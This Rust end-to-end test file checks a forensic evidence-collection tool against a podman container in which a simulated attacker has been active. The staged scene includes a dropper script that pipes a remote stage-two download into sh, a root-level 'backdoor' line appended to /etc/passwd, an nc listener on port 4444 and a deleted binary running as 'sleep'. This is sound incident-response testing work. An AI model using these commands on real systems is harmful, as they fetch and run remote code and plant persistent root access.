//! `forensic collect` against a real podman container in which an "attacker" has been busy.

use crate::podman::{Container, Image, host_busybox, stat_tree};
use crate::util::*;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// Content of a host file the container links to; it must never reach the bundle.
const SECRET: &str = "HOST-SECRET-7f3a9c1e-never-in-a-bundle";
/// The dropped script's exact bytes.
const DROPPER: &[u8] = b"#!/bin/sh\nwget -q -O- http://203.0.113.7/stage2 | sh\n";

struct Scene {
    _image: Image,
    container: Container,
    secret: PathBuf,
}

impl Drop for Scene {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.secret);
    }
}

/// Builds the image, starts the container and plays the attacker.
fn scene(work: &Path, tag: &str) -> Scene {
    let image = Image::build(work, tag);
    let container = Container::start(&image, &format!("forensic-e2e-{tag}"));
    // A host secret the container points a symlink at (absolute: resolved against whoever follows it).
    let secret = PathBuf::from(format!("/root/forensic-e2e-secret-{tag}"));
    std::fs::write(&secret, SECRET).unwrap();
    let dropper = String::from_utf8(DROPPER.to_vec()).unwrap();
    container.sh(&format!(
        "printf '%s' '{dropper}' > /tmp/dropper.sh && chmod 755 /tmp/dropper.sh \
         && echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd \
         && rm /etc/motd \
         && ln -s {} /tmp/secret-link && ln -s /etc/../../../../{} /var/tmp/escape-link \
         && mkfifo /tmp/trap.fifo \
         && touch '/tmp/new\nline' \
         && ln -s loop-b /tmp/loop-a && ln -s loop-a /tmp/loop-b \
         && mkdir /tmp/.x && cp /bin/busybox /tmp/.x/sleep && chmod 755 /tmp/.x/sleep",
        secret.display(),
        secret.display()
    ));
    container.spawn("exec nc -l -p 4444");
    // Busybox picks its applet from argv[0]: a copy named `sleep` runs as sleep.
    container.spawn("exec /tmp/.x/sleep 100000");
    container.wait_for("the ghost process", || container.host_pids().len() >= 3);
    container.sh("rm /tmp/.x/sleep");
    Scene {
        _image: image,
        container,
        secret,
    }
}

/// Runs `forensic collect ARGS` with a watchdog: a hang fails the test instead of stalling CI.
fn collect_with_watchdog(args: &[&str]) -> std::process::Output {
    let mut child = forensic()
        .arg("collect")
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let end = Instant::now() + Duration::from_secs(600);
    loop {
        if child.try_wait().unwrap().is_some() {
            return child.wait_with_output().unwrap();
        }
        if Instant::now() > end {
            let _ = child.kill();
            panic!("forensic collect hung (killed after 600 s)");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn unzip(bundle: &Path, into: &Path) {
    let o = Command::new("unzip")
        .args(["-q", bundle.to_str().unwrap(), "-d", into.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(o.status.success(), "unzip: {}", String::from_utf8_lossy(&o.stderr));
}

fn read_json(p: &Path) -> Value {
    serde_json::from_slice(&std::fs::read(p).unwrap_or_else(|e| panic!("{}: {e}", p.display()))).unwrap()
}

fn jsonl(p: &Path) -> Vec<Value> {
    std::fs::read_to_string(p)
        .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// Every file under `dir`, recursively (for the secret search).
fn all_files(dir: &Path, out: &mut Vec<PathBuf>) {
    for e in std::fs::read_dir(dir).unwrap() {
        let e = e.unwrap();
        let t = e.file_type().unwrap();
        if t.is_dir() {
            all_files(&e.path(), out);
        } else if t.is_file() {
            out.push(e.path());
        }
    }
}

/// What a responder checks after collecting from the attacked container.
fn check_bundle(work: &Path, bundle: &Path, scene: &Scene, through_runtime: bool) {
    let b = bundle.to_str().unwrap();
    let o = run(&["verify", b]);
    assert_eq!(code(&o), 0, "{}", stdout(&o));

    let o = run(&["ls", b, "--json"]);
    let listing = json(&o);
    let sections: Vec<&str> = listing["members"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["section"].as_str().unwrap())
        .collect();
    let mut sorted = sections.clone();
    sorted.sort_by_key(|s| forensic_bundle::section::Section::from_name(s).unwrap());
    assert_eq!(sections, sorted, "members are in the order of volatility");

    let raw = std::fs::read(bundle).unwrap();
    assert!(
        !raw.windows(SECRET.len()).any(|w| w == SECRET.as_bytes()),
        "the host secret is in the raw bundle"
    );
    let x = work.join(format!("x-{}", bundle.file_stem().unwrap().to_string_lossy()));
    unzip(bundle, &x);
    let mut files = Vec::new();
    all_files(&x, &mut files);
    for f in &files {
        let content = std::fs::read(f).unwrap();
        assert!(
            !content.windows(SECRET.len()).any(|w| w == SECRET.as_bytes()),
            "host secret in {}",
            f.display()
        );
    }

    // 1: the deleted binary: flagged, hashed and copied.
    // The deleted binary is the image's busybox (its applets are links to it): the host's copy,
    // hashed by sha256sum, is the oracle for every digest of it in the bundle.
    let busybox_sha = sha256sum(&host_busybox());
    let procs = read_json(&x.join("1-processes/processes.json"));
    let ghost = procs
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["exe_deleted"] == true)
        .expect("a process runs a deleted binary");
    assert_eq!(ghost["exe"], "/tmp/.x/sleep", "{ghost}");
    assert_eq!(ghost["exe_sha256"], busybox_sha.as_str());
    let copy = x.join(format!("1-processes/{}/exe", ghost["pid"]));
    assert_eq!(sha256sum(&copy), busybox_sha, "the deleted binary's copy");
    assert!(
        ghost["flags"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f == "deleted-executable"),
        "{ghost}"
    );

    // 2: the listening socket, decoded, with its owning process.
    let sockets = read_json(&x.join("2-network/sockets.json"));
    let listener = sockets["inet"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["state"] == "LISTEN" && s["local"].as_str().unwrap().ends_with(":4444"))
        .unwrap_or_else(|| panic!("no listener on 4444: {sockets}"));
    let owner = &listener["owners"][0];
    assert!(
        owner["cmdline"].as_str().unwrap().contains("nc -l -p 4444"),
        "{listener}"
    );

    // 5: the dropped file byte for byte; the upper layer's changes including the deletion.
    assert_eq!(
        std::fs::read(x.join("5-filesystem/root/tmp/dropper.sh")).unwrap(),
        DROPPER
    );
    let changes = jsonl(&x.join("5-filesystem/upper-changes.jsonl"));
    let change = |p: &str| {
        changes
            .iter()
            .find(|c| c["path"] == p)
            .map(|c| c["change"].as_str().unwrap().to_string())
    };
    assert_eq!(change("/etc/motd").as_deref(), Some("deleted"), "{changes:?}");
    assert_eq!(change("/etc/passwd").as_deref(), Some("modified"));
    assert_eq!(change("/tmp/dropper.sh").as_deref(), Some("added"));
    let passwd = std::fs::read_to_string(x.join("5-filesystem/upper/etc/passwd")).unwrap();
    assert!(passwd.ends_with("backdoor:x:0:0::/root:/bin/sh\n"), "{passwd}");
    // The symlinks are recorded as links, with their targets, and never followed.
    let index = jsonl(&x.join("5-filesystem/tree-index.jsonl"));
    let link = index
        .iter()
        .find(|e| e["path"] == "/tmp/secret-link")
        .expect("the symlink is indexed");
    assert_eq!(link["type"], "symlink");
    let image_busybox = index
        .iter()
        .find(|e| e["path"] == "/bin/busybox")
        .expect("the image's busybox is indexed");
    assert_eq!(
        (&image_busybox["type"], &image_busybox["sha256"]),
        (&Value::from("file"), &Value::from(busybox_sha.as_str())),
        "{image_busybox}"
    );
    assert_eq!(link["symlink_target"], scene.secret.display().to_string());
    assert!(link["sha256"].is_null());
    // The FIFO is recorded, never opened (collection finished: no hang).
    let fifo = index
        .iter()
        .find(|e| e["path"] == "/tmp/trap.fifo")
        .expect("the FIFO is indexed");
    assert_eq!(fifo["type"], "fifo");
    assert!(
        index.iter().any(|e| e["path"] == "/tmp/new\nline"),
        "the name with a newline is indexed"
    );
    let tmp_exec = std::fs::read_to_string(x.join("5-filesystem/derived/tmp-executables.txt")).unwrap();
    assert!(tmp_exec.lines().any(|l| l == "/tmp/dropper.sh"), "{tmp_exec}");

    // 6: the runtime's inspect output verbatim and the normalized record.
    let record = read_json(&x.join("6-podspec/container.json"));
    assert_eq!(record["pid"], scene.container.pid());
    if through_runtime {
        assert_eq!(record["runtime"], "podman");
        let inspect: Value = read_json(&x.join("6-podspec/inspect.json"));
        assert_eq!(
            inspect[0]["State"]["Pid"],
            scene.container.pid(),
            "podman inspect output, verbatim"
        );
        let commands = jsonl(&x.join("6-podspec/commands.jsonl"));
        assert!(
            commands
                .iter()
                .any(|c| c["argv"]
                    == serde_json::json!(["podman", "inspect", "--type", "container", scene.container.name])),
            "the exact command line is recorded: {commands:?}"
        );
    }
}

#[test]
fn collect_from_an_attacked_podman_container() {
    let work = tempfile::tempdir().unwrap();
    let tag = format!("c{}", std::process::id());
    let scene = scene(work.path(), &tag);
    let pid = scene.container.pid();
    let (key, _) = keygen(work.path(), "responder");

    // Leave no trace: the tree's stat (atime included), podman diff and the process list are
    // the same after collection. (A first walk settles relatime on directories.)
    // podman diff reads the layers itself, so it runs before the stat snapshots.
    let diff_before = scene.container.diff();
    let pids_before = scene.container.host_pids();
    let _ = stat_tree(pid);
    let stat_before = stat_tree(pid);

    let bundle = work.path().join("by-container.zip");
    let o = collect_with_watchdog(&[
        "--container",
        &scene.container.name,
        "--runtime",
        "podman",
        "-o",
        bundle.to_str().unwrap(),
        "--key",
        key.to_str().unwrap(),
        "--case",
        "E2E-1",
    ]);
    assert_eq!(code(&o), 0, "collect: {}{}", stdout(&o), stderr(&o));
    let stat_after = stat_tree(pid);
    check_bundle(work.path(), &bundle, &scene, true);
    assert_eq!(scene.container.diff(), diff_before, "podman diff changed");
    assert_eq!(
        scene.container.host_pids(),
        pids_before,
        "processes appeared in the container"
    );
    // Known limit: reading a symlink's target (readlink) updates the link's own atime and Linux has
    // no O_NOATIME for it; every other field of a symlink, and everything of every other entry,
    // atime included, must be unchanged; no entry appears or disappears.
    let paths = |t: &std::collections::BTreeMap<String, String>| t.keys().cloned().collect::<Vec<_>>();
    assert_eq!(
        paths(&stat_after),
        paths(&stat_before),
        "entries appeared or disappeared"
    );
    let without_atime = |l: &str| l.split_once(' ').map(|(_, rest)| rest.to_string());
    for (path, before) in &stat_before {
        let after = &stat_after[path];
        if after != before {
            assert!(
                after.ends_with(" l") && without_atime(after) == without_atime(before),
                "collection changed {path}: {before} -> {after}"
            );
        }
    }

    // The same through --pid (no runtime: the upper layer is found through mountinfo), with memory.
    let by_pid = work.path().join("by-pid.zip");
    let o = collect_with_watchdog(&[
        "--pid",
        &pid.to_string(),
        "-o",
        by_pid.to_str().unwrap(),
        "--key",
        key.to_str().unwrap(),
        "--memory",
        "--max-memory",
        "16M",
        "--json",
    ]);
    assert_eq!(code(&o), 0, "collect --pid: {}{}", stdout(&o), stderr(&o));
    let summary = json(&o);
    let memory = summary["sections"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "memory")
        .unwrap();
    assert!(
        memory["members"].as_u64().unwrap() > 1,
        "memory regions were collected: {memory}"
    );
    assert!(
        memory["bytes"].as_u64().unwrap() <= 16 << 20,
        "the memory cap holds: {memory}"
    );
    check_bundle(work.path(), &by_pid, &scene, false);
}
